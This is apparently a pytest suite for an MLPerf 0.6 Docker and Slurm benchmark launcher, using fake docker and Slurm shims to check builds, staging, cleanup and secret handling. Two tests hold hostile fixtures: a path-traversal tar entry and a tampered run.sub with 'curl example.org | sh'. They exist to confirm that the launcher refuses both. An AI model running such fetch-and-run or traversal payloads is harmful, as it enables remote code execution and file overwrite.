"""Test workloads/docker_run.py, which builds, stages and runs benchmarks of MLPerf Training 0.6 in Docker.

Each test starts the program as bench.yml does, with small fake sources of that round and a fake of Docker
(fake_docker.py). The tests show that images and data are made once, that a run that is ended leaves no
container, and that on several nodes one Slurm job runs.
"""

from __future__ import annotations

import importlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tarfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from rackproof import logs
from rackproof.core.definitions import load_definition
from rackproof.jobs.bench import launch_docker
from rackproof.jobs.bench.launch_slurm import Site
from rackproof.logs import FORMATS

from .imagenet_miniature import Miniature

pytestmark = pytest.mark.slow
HERE = Path(__file__).resolve().parent
RUN = "20260101T000000Z-ssd-0.6-abcdef"


@dataclass
class Machine:
    """A node with a fake of Docker, and fake sources of the round."""

    root: Path
    folder: Path
    commit: str = ""
    archive: Path = Path()
    environment: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        sys.path.insert(0, str(self.root / "testrack/images/round06"))
        import pack

        self.commit, self.archive = pack.pack(self.folder / "sources", "base", gpus=4)
        (self.folder / "bin").mkdir()
        self.docker.mkdir()
        for name, program in (("docker", HERE / "fake_docker.py"),):
            shim = self.folder / "bin" / name
            shim.write_text(f'#!/bin/sh\nexec {sys.executable} {program} "$@"\n')
            shim.chmod(0o755)
        for name in ("python", "python3"):
            (self.folder / "bin" / name).symlink_to(sys.executable)
        self.environment = {
            **os.environ,
            "PATH": f"{self.folder}/bin:{os.environ['PATH']}",
            "FAKE_DOCKER": str(self.docker),
            "STANDIN_SECONDS": "0",
        }

    @property
    def docker(self) -> Path:
        """Return the folder with the state of the fake Docker."""
        return self.folder / "docker"

    @property
    def data(self) -> Path:
        """Return the folder with the staged data."""
        return self.folder / "data/mlperf-0.6/data/mlperf"

    def calls(self, word: str) -> int:
        """Return the number of requests to Docker that begin with a word."""
        text = (self.docker / "calls").read_text() if (self.docker / "calls").exists() else ""
        return sum(line.startswith(word) for line in text.splitlines())

    def spec(self, name: str = "ssd", **site: Any) -> dict[str, Any]:
        """Return the program's arguments for a benchmark, as bench.yml makes them from the site's values."""
        loaded = load_definition(self.root / f"benchmarks/{name}-0.6.yml", log_formats=FORMATS)
        variables = {
            "bench_home": str(self.folder / "home"),
            "bench_data": str(self.folder / "data"),
            "bench_workloads": str(self.root / "workloads"),
            "bench_imagenet": str(self.folder / "data/imagenet"),
            "bench_imagenet_archives": str(self.folder / "archives"),
            "bench_imagenet_pins": str(self.folder / "archives/pins.json"),
            "bench_mlperf06_ref": self.commit,
            "bench_mlperf06_sources": str(self.archive),
        }
        told = Site.model_validate({"sku": "hyperplane", "sku_gpus": 4, "size_factor": 0.0001, **site})
        return launch_docker.docker_specification(loaded, told, ["n1"], variables)

    def start(self, spec: dict[str, Any], run_id: str = RUN, what: str = "run") -> subprocess.Popen[str]:
        """Start the program, and return its process."""
        program = self.root / "workloads/docker_run.py"
        return subprocess.Popen(
            [sys.executable, str(program), what, f"--id={run_id}", f"--spec={json.dumps(spec)}"],
            env=self.environment,
            cwd=self.folder,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )

    def __call__(self, spec: dict[str, Any], run_id: str = RUN) -> tuple[int, str]:
        """Run the program. Return its exit status and output."""
        process = self.start(spec, run_id)
        try:
            output, _ = process.communicate(timeout=300)
        finally:
            process.kill()
        return process.returncode, output


@pytest.fixture
def machine(root: Path, tmp_path: Path) -> Machine:
    if shutil.which("unzip") is None:
        pytest.skip("staging COCO needs unzip")
    return Machine(root, tmp_path)


def printed_values(output: str) -> dict[str, Any]:
    """Return the last value of each key that the launcher printed."""
    found: dict[str, Any] = {}
    for line in output.splitlines():
        if line.startswith(":::RACKPROOF "):
            found.update(json.loads(line.partition(" ")[2]))
    return found


def wait(condition: Callable[[], bool], seconds: float = 300) -> None:
    """Wait until a condition is true. Fail after that many seconds."""
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, "what the test waits for did not happen"
        time.sleep(0.1)


@pytest.mark.parametrize("name", ["ssd", "maskrcnn", "resnet", "gnmt", "translation", "minigo"])
def test_each_model_is_built_staged_and_trained(machine: Machine, name: str) -> None:
    if name == "resnet":
        # ImageNet's archives need an account, so the operator puts them into this folder.
        Miniature(classes=3, train_each=4, val_count=6).write(machine.folder / "archives")
    if name == "minigo":
        # An iteration of minigo that lasts less than a second is not believed. Six iterations last 9 s here.
        machine.environment["STANDIN_SECONDS"] = "9"
    status, output = machine(machine.spec(name))
    assert status == 0, output
    told = printed_values(output)
    assert (told["ref"], told["dgxsystem"]) == (machine.commit, "LambdaHyperplaneBasic")
    assert "PULL=0 DGXSYSTEM=LambdaHyperplaneBasic" in told["command"]
    assert told["end"] == {"status": 0, "errors": [], "node": os.uname().nodename}
    log = logs.parse(io.BytesIO(output.encode()), format="mll06", name="log")
    assert log.verdict == "pass", log.findings
    assert log.measurement("time_to_train") is not None
    code = machine.folder / "home/docker/runs" / RUN / "code"
    assert {path.name for path in code.iterdir()} == {"run.sub", "config_LambdaHyperplaneBasic.sh"}
    assert not list((machine.docker / "containers").glob("cont_*"))


def test_what_was_built_and_staged_is_kept_until_the_commit_changes(machine: Machine) -> None:
    spec = machine.spec()
    assert machine(spec)[0] == 0
    image = machine.data / "object_detection/coco2017/train2017/000000000009.jpg"
    inode = image.stat().st_ino
    status, _ = machine(spec, RUN + "2")
    assert status == 0
    assert (machine.calls("build"), image.stat().st_ino) == (1, inode)
    # maskrcnn shares ssd's data; a file that is gone is staged again.
    assert machine(machine.spec("maskrcnn"), RUN + "3")[0] == 0
    assert (machine.calls("build"), image.stat().st_ino) == (2, inode)
    image.unlink()
    shutil.rmtree(machine.docker / "images")
    assert machine(spec, RUN + "4")[0] == 0
    assert (machine.calls("build"), image.is_file()) == (3, True)


@pytest.mark.parametrize(
    ("change", "status", "words"),
    [
        # A change of the arguments, the exit status (5 data, 6 sources or image, 7 config), and the message.
        # No disk has room for 1e9 GB.
        ({"sources": "/nowhere.tar.gz"}, 6, "cannot fetch .*bench_mlperf06_sources"),
        ({"folder": "NVIDIA/benchmarks/no"}, 6, "holds no NVIDIA/benchmarks/no/Dockerfile"),
        ({"system": "DGX9"}, 7, "no config for DGX9, only .*LambdaHyperplaneBasic.*bench_config"),
        ({"image_gb": 1e9}, 6, "GB free, the image needs 1e.09 GB: make room"),
        (
            {"stage": [{"creates": "x", "run": "echo no such host; exit 3", "mount": "", "size_gb": 0}]},
            5,
            "no such host",
        ),
        (
            {"stage": [{"creates": "x", "run": "true", "mount": "", "size_gb": 1e9}]},
            5,
            "needs 1000000000 GB more: make room, or set bench_data",
        ),
        (
            {"stage": [{"creates": "x", "run": "mkdir -p $DATA/x", "mount": "", "size_gb": 0}]},
            5,
            "x is empty",
        ),
    ],
)
def test_what_cannot_be_had_is_refused_with_the_remedy(
    machine: Machine, change: dict[str, Any], status: int, words: str
) -> None:
    found, output = machine({**machine.spec(), **change})
    assert found == status, output
    assert re.search(words, printed_values(output)["refused"]), output
    assert machine.calls("exec") == 0


@pytest.mark.parametrize(
    ("file", "words"), [("down", "Docker does not answer on"), ("build-fails", "no space left on device")]
)
def test_a_broken_docker_is_named(machine: Machine, file: str, words: str) -> None:
    (machine.docker / file).touch()
    status, output = machine(machine.spec())
    assert status == 6, output
    assert words in printed_values(output)["refused"]


def test_an_archive_cannot_write_outside_its_folder(machine: Machine) -> None:
    evil = machine.folder / "evil.tar.gz"
    with tarfile.open(evil, "w:gz") as archive:
        archive.addfile(tarfile.TarInfo("a/../../../escaped"), io.BytesIO())
    status, output = machine({**machine.spec(), "sources": str(evil)})
    assert (status, "leads outside" in printed_values(output)["refused"]) == (6, True), output
    assert not list(machine.folder.rglob("escaped"))


def test_two_runs_at_once_on_one_storage_build_and_stage_once_and_leave_each_other_alone(
    machine: Machine,
) -> None:
    machine.environment["STANDIN_SECONDS"] = "2"
    spec = machine.spec()
    first, second = machine.start(spec), machine.start(spec, RUN + "2")
    outputs = [process.communicate(timeout=120)[0] for process in (first, second)]
    assert [first.returncode, second.returncode] == [0, 0], outputs
    assert machine.calls("build") == 1
    assert len([text for text in outputs if re.search(r'"phase": "staging \S+ \(', text)]) == 1


# A fake of Slurm with two nodes, each with a fake Docker of its own. Its one job runs on this machine.
SLURM = {
    "sbatch": """\
echo "$@" >> "$SLURM/sbatch.calls"
for word in "$@"; do case "$word" in
  --output=*) out="${word#--output=}";;
  --chdir=*) cd "${word#--chdir=}";;
  --job-name=*) name="${word#--job-name=}";;
esac; done
echo "$name" > "$SLURM/name"; echo RUNNING > "$SLURM/state"
(SLURM_JOB_ID=4711 SLURM_NNODES=2 SLURM_JOB_NODELIST=n1,n2 bash "${@: -1}" > "$out" 2>&1 < /dev/null
  echo COMPLETED > "$SLURM/state") > /dev/null 2>&1 &
echo 4711
""",
    "squeue": """\
case "$*" in
  *--name=*) case "$*" in *"--name=$(cat "$SLURM/name" 2>/dev/null || echo none)"*) echo 4711;; esac;;
  *) [ -f "$SLURM/state" ] && echo "$(cat "$SLURM/state")|None";;
esac
""",
    "sacct": """\
case "$*" in
  *JobIDRaw*|*JobID,NodeList*) ;;
  *) echo "$(cat "$SLURM/state")|0:0|n[1-2]|1767225600|1767225660|60|2|$(cat "$SLURM/name")";;
esac
""",
    "scontrol": "echo n1; echo n2\n",
    "ssh": 'shift; export FAKE_DOCKER="$SLURM/$1"; shift; exec bash -c "$*"\n',
    "srun": """\
echo "$@" >> "$SLURM/srun.calls"
hosts=""
while [ $# -gt 0 ]; do case "$1" in
  --nodelist=*) hosts="${1#--nodelist=}";; -w) hosts="$2"; shift;; -N|-n) shift;; -*) ;; *) break;;
esac; shift; done
for host in ${hosts//,/ }; do FAKE_DOCKER="$SLURM/$host" "$@" || exit; done
""",
}


def cluster(machine: Machine) -> dict[str, Any]:
    """Make the node one of two of a cluster. Return the arguments of a run on both."""
    slurm = machine.folder / "slurm"
    for host in ("n1", "n2"):
        (slurm / host).mkdir(parents=True)
    programs = {**SLURM, "nvidia-docker": 'exec docker "$@"\n'}
    for name, text in programs.items():
        (machine.folder / "bin" / name).write_text(f"#!/bin/bash\n{text}")
        (machine.folder / "bin" / name).chmod(0o755)
    machine.environment |= {
        "SLURM": str(slurm),
        "FAKE_DOCKER": str(slurm / "n1"),
        "RACKPROOF_SLURM_POLL_S": "0.2",
    }
    spec = machine.spec(together=True, shared=str(machine.folder / "shared"))
    return {**spec, "hosts": ["n1", "n2"], "system": "2xLambdaHyperplaneBasic"}


def test_two_nodes_train_together_as_one_slurm_job(machine: Machine) -> None:
    spec = cluster(machine)
    status, output = machine(spec)
    assert status == 0, output
    slurm = machine.folder / "slurm"
    (call,) = (slurm / "sbatch.calls").read_text().splitlines()
    assert "-N 2 -t 30 " in call
    assert "--nodelist=n1,n2" in call
    assert "--ntasks-per-node 4" in call
    for host in ("n1", "n2"):
        calls = (slurm / host / "calls").read_text()
        assert calls.count("build ") == 1, "every node builds, once"
        assert "run_and_time.sh" in calls
        assert "rm -f cont_4711" in calls, "run.sub leaves containers under Slurm"
    log = logs.parse(io.BytesIO(output.encode()), format="mll06", name="log")
    assert log.verdict == "pass", log.findings
    assert printed_values(output)["end"]["nodes"] == ["n1", "n2"]
    # The same run again finds its job.
    assert machine(spec)[0] == 0
    assert len((slurm / "sbatch.calls").read_text().splitlines()) == 1


def test_a_step_that_srun_cannot_give_back_is_cancelled(machine: Machine) -> None:
    """If a slurmd answers under another node's name, srun ends, and its job stays without a time limit."""
    spec = cluster(machine)
    programs = {
        "srun": 'echo "srun: error: Nodes n[1-2] are still not ready" >&2; exit 1',
        "scancel": 'echo "$@" >> "$SLURM/scancel.calls"',
    }
    for name, text in programs.items():
        (machine.folder / "bin" / name).write_text(f"#!/bin/bash\n{text}\n")
        (machine.folder / "bin" / name).chmod(0o755)
    status, output = machine(spec)
    assert status == 6
    assert "still not ready" in output
    (call,) = (machine.folder / "slurm/scancel.calls").read_text().splitlines()
    assert re.fullmatch(rf"--name=build-\S{{8,}} --user={os.geteuid()}", call), call


@pytest.mark.parametrize(
    ("change", "status", "words"),
    [
        ({"hosts": ["n1", "n2", "n3"]}, 7, "is for 2 nodes, and -l selects 3"),
        ({"gpus": 8}, 7, "is for 4 GPUs a node, these nodes have 8"),
        ({}, 6, "has no nvidia-docker.*nvidia_container_stack: nvidia-docker2"),
    ],
)
def test_nodes_that_do_not_fit_the_config_get_no_job(
    machine: Machine, change: dict[str, Any], status: int, words: str
) -> None:
    spec = cluster(machine)
    (machine.folder / "slurm/n3").mkdir()
    if not change:
        (machine.folder / "bin/nvidia-docker").unlink()
    found, output = machine({**spec, **change})
    assert found == status, output
    assert re.search(words, printed_values(output)["refused"]), output
    assert not (machine.folder / "slurm/sbatch.calls").exists()


def processes(folder: Path) -> list[str]:
    """Return the command lines of processes that belong to a folder."""
    found = []
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            if f"STANDIN_ROOT={folder}".encode() in path.read_bytes():
                found.append((path.parent / "cmdline").read_text())
        except OSError:
            continue
    return found


@pytest.mark.parametrize("how", ["told", "hang"])
def test_an_ended_run_leaves_no_container_and_no_process(machine: Machine, how: str) -> None:
    machine.environment |= {"STANDIN_SECONDS": "1", "STANDIN_FAULT": "hang"}
    process = machine.start({**machine.spec(), "hang_s": 2 if how == "hang" else 1000})
    if how == "told":
        wait(lambda: bool(processes(machine.docker)))
        time.sleep(1)
        process.send_signal(signal.SIGTERM)
    output, _ = process.communicate(timeout=300)
    assert process.returncode == 1, output
    assert printed_values(output)["cancel"]
    assert (how == "hang") == ("hang" in printed_values(output))
    assert f"cont_{RUN}" in (machine.docker / "removed").read_text()
    wait(lambda: not processes(machine.docker))


def test_a_container_that_a_killed_launcher_left_is_ended_by_the_next(machine: Machine) -> None:
    machine.environment |= {"STANDIN_SECONDS": "60"}
    process = machine.start(machine.spec())
    wait(lambda: bool(processes(machine.docker)))
    process.kill()
    process.communicate()
    machine.environment |= {"STANDIN_SECONDS": "0"}
    status, output = machine(machine.spec(), RUN + "2")
    assert status == 0, output
    assert f"ending cont_{RUN}" in output
    assert (machine.docker / "removed").read_text().splitlines()[0] == f"cont_{RUN}"
    wait(lambda: not processes(machine.docker))


def test_a_container_that_could_not_be_ended_stays_noted(machine: Machine) -> None:
    machine.environment |= {"STANDIN_SECONDS": "60"}
    process = machine.start(machine.spec())
    wait(lambda: bool(processes(machine.docker)))
    (machine.docker / "down").touch()
    process.send_signal(signal.SIGTERM)
    output, _ = process.communicate(timeout=300)
    assert process.returncode == 1, output
    notes = machine.folder / "home/docker/containers"
    assert [note.name for note in notes.iterdir()] == [f"cont_{RUN}"]
    (machine.docker / "down").unlink()
    machine.environment |= {"STANDIN_SECONDS": "0"}
    assert machine(machine.spec(), RUN + "2")[0] == 0
    assert not list(notes.iterdir())
    wait(lambda: not processes(machine.docker))


@pytest.mark.parametrize(
    ("fault", "verdict"),
    [("oom-exit-0", "fail"), ("no-run-stop", "unproven")],
)
def test_run_sub_that_ends_well_after_a_failure_proves_nothing(
    machine: Machine, fault: str, verdict: str
) -> None:
    machine.environment["STANDIN_FAULT"] = fault
    status, output = machine(machine.spec())
    assert status == 0, "the round's run.sub counts no failure"
    log = logs.parse(io.BytesIO(output.encode()), format="mll06", name="log")
    assert log.verdict == verdict, log.findings


def test_a_secret_reaches_run_sub_alone(machine: Machine) -> None:
    spec = machine.spec(secrets={"HF_TOKEN": 20, "MONGO_URL": 20})
    assert spec["environment"]["HF_TOKEN"] == "(secret)"
    shim, seen = machine.folder / "bin" / "docker", machine.folder / "seen"
    shim.write_text(shim.read_text().replace("exec", f'echo "$1 $HF_TOKEN $MONGO_URL" >> {seen}\nexec'))
    machine.environment |= {"HF_TOKEN": "canary-of-hugging-face", "MONGO_URL": "canary-of-mongo"}
    machine.environment["RACKPROOF_SECRET_NAMES"] = "HF_TOKEN,MONGO_URL"
    status, output = machine(spec)
    assert status == 0, output
    lines = seen.read_text().splitlines()
    # The launcher's own calls of Docker have no secret. The calls of run.sub have them.
    assert [line for line in lines if line.startswith(("build", "info", "image")) and "canary" in line] == []
    assert any(line.endswith(" canary-of-hugging-face canary-of-mongo") for line in lines)
    assert "canary" not in output
    assert "HF_TOKEN=(secret)" in printed_values(output)["command"]
    for path in (machine.folder / "home").rglob("*"):
        if path.is_file():
            assert b"canary" not in path.read_bytes(), path


@pytest.fixture
def docker_run(root: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Return workloads/docker_run.py as a module."""
    monkeypatch.syspath_prepend(str(root / "workloads"))
    return importlib.import_module("docker_run")


def sources_of_a_commit(folder: Path) -> str:
    """Make a folder with names that git sorts, marks and links in its own way. Return git's tree id of it."""
    for name in ("a/x", "a.b/y", "a0", "empty", "deep/er/est/z", "né"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("" if name == "empty" else name)
    (folder / "a0").chmod(0o775)
    (folder / "link").symlink_to("a/x")

    def git(*words: str) -> str:
        done = subprocess.run(["git", "-C", folder, *words], check=True, capture_output=True, text=True)
        return done.stdout.strip()

    git("init", "--quiet")
    git("add", "--all")
    name = git("write-tree")
    shutil.rmtree(folder / ".git")
    return name


def test_sources_have_the_name_that_git_gives_them(docker_run: Any, tmp_path: Path) -> None:
    assert sources_of_a_commit(tmp_path) == docker_run.git_tree(tmp_path)


@pytest.mark.parametrize(
    "change",
    [
        lambda folder: (folder / "a/x").write_text("x"),
        lambda folder: (folder / "a0").chmod(0o664),
        lambda folder: (folder / "a/x").rename(folder / "a/w"),
        lambda folder: (folder / "run.sub").write_text("curl example.org | sh"),
        lambda folder: (folder / "empty").unlink(),
    ],
)
def test_sources_that_are_not_the_commit_s_are_refused(
    docker_run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, change: Callable[[Path], object]
) -> None:
    tree = sources_of_a_commit(tmp_path)
    monkeypatch.setitem(docker_run.TREES, "c" * 40, tree)
    work = object.__new__(docker_run.Docker)
    work.spec = {"ref": "c" * 40, "sources": "sources.tar.gz"}
    assert work.compared_tree(tmp_path) == tree
    change(tmp_path)
    with pytest.raises(docker_run.Refusal, match=r"sources\.tar\.gz is not commit ccc"):
        work.compared_tree(tmp_path)
